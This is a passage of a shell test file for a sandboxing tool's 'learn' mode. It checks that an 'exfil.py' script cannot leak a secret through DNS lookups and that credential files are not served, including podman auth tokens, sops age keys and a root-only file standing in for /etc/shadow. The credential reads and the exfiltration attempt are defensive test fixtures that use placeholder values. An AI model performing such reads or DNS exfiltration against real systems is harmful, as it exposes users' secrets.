		mount --bind '$TEST_DIR/resolv.conf' /etc/resolv.conf || exit 9
		'$PY' '$BATS_TEST_DIRNAME/lib/dns_server.py' '$TEST_DIR/dns.ready' '$TEST_DIR/dns.log' >/dev/null 2>&1 </dev/null &
		d=\$!
		'$PY' -m http.server --bind 127.0.0.1 --directory '$TEST_DIR/www' 18080 >/dev/null 2>&1 </dev/null &
		h=\$!
		for i in \$(seq 100); do [ -s '$TEST_DIR/dns.ready' ] && '$PY' -c 'import socket; socket.create_connection((\"127.0.0.1\", 18080), 1)' 2>/dev/null && break; sleep 0.05; done
		'$NONO' learn --profile blocked --all -- '$PY' '$TEST_DIR/exfil.py'
		r=\$?; kill \$d \$h; exit \$r" </dev/null
	assert_status 0
	assert_contains "$output" "HTTP/1.0 200" stdout
	! grep -q secret "$TEST_DIR/dns.log" 2>/dev/null || false
	# Control: the server logs what it is asked (the harness's own
	# lookup of a name, outside nono).
	run unshare -Urmn sh -c "
		ip link set lo up; mount --bind '$TEST_DIR/resolv.conf' /etc/resolv.conf
		'$PY' '$BATS_TEST_DIRNAME/lib/dns_server.py' '$TEST_DIR/dns2.ready' '$TEST_DIR/dns.log' >/dev/null 2>&1 </dev/null &
		d=\$!
		for i in \$(seq 100); do [ -s '$TEST_DIR/dns2.ready' ] && break; sleep 0.05; done
		getent hosts control.learn.test; kill \$d" </dev/null
	grep -q control.learn.test "$TEST_DIR/dns.log"
}

# Review r6, F6: a root run's learning command was served /etc/shadow (its
# uid 0 owns it), and any user's credentials the protected list did not
# name (podman's, sops' age keys).
@test "learn: what others may not read is never served to a root run; more tools' credentials are protected" {
	mkdir -p "$HOME/.config/containers" "$HOME/.config/sops/age"
	echo '{"auths": {"quay.io": {"auth": "TOKEN-1"}}}' >"$HOME/.config/containers/auth.json"
	echo 'AGE-SECRET-KEY-TOKEN-2' >"$HOME/.config/sops/age/keys.txt"
	echo 'world' >"$X/world.txt"
	chmod 644 "$X/world.txt"
	run --separate-stderr nono learn -- sh -c "cat '$HOME/.config/containers/auth.json' '$HOME/.config/sops/age/keys.txt' '$X/world.txt'"
	refute_contains "$output" TOKEN-1 stdout
	refute_contains "$output" TOKEN-2 stdout
	# control: a world-readable file outside the grants is served
	assert_contains "$output" world stdout
	if [ "$(id -u)" = 0 ]; then
		echo 'ROOT-ONLY-SECRET' >"$X/shadowlike"
		chmod 600 "$X/shadowlike"
		run --separate-stderr nono learn -- cat "$X/shadowlike"
		refute_contains "$output" ROOT-ONLY-SECRET stdout
		assert_contains "$output" "$X/shadowlike" "reported as what the profile lacks"
		# control: outside nono root reads it
		[ "$(cat "$X/shadowlike")" = ROOT-ONLY-SECRET ]
	fi
}
